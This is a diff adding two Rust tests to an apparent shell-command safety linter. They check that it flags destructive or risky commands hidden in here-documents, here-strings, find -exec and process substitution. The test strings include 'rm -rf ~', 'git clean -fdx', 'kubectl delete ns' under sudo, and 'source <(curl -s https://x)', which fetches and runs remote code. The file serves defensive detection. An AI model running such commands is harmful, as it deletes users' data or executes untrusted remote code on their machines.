@@ -819,3 +819,34 @@ fn ten_thousand_pseudo_random_commands_never_panic_and_spans_stay_in_bounds() {
     // Both outcomes occur, so the generator exercises the parser's paths.
     assert!(unparsed > 100 && unparsed < 9_900, "unparsed {unparsed}");
 }
+
+#[test]
+fn shells_reading_here_documents_and_strings_are_linted() {
+    let cmd = "bash <<'EOF'\nset -e\nrm -rf ~\nEOF\necho done";
+    assert_eq!(summary(cmd), vec![("rm_broad_target", "~")]);
+    assert_eq!(summary("sh <<< 'git push -f'"), vec![("git_push", "push")]);
+    assert_eq!(
+        summary("sudo bash <<-X\n\tkubectl delete ns a\n\tX"),
+        vec![
+            ("privilege_escalation", "sudo"),
+            ("kubectl_delete", "delete")
+        ]
+    );
+    assert_clean(&[
+        "bash script.sh <<EOF\nrm -rf /\nEOF",
+        "python3 <<EOF\nprint('rm -rf /')\nEOF",
+    ]);
+}
+
+#[test]
+fn commands_run_by_find_exec_and_source_of_downloads_are_linted() {
+    assert_eq!(
+        summary("find . -type d -exec sh -c 'git clean -fdx' \\;"),
+        vec![("git_clean_force", "clean")]
+    );
+    assert_eq!(
+        summary("source <(curl -s https://x)"),
+        vec![("remote_code_execution", "source")]
+    );
+    assert_clean(&["find . -exec echo {} +", "source ./env.sh"]);
+}
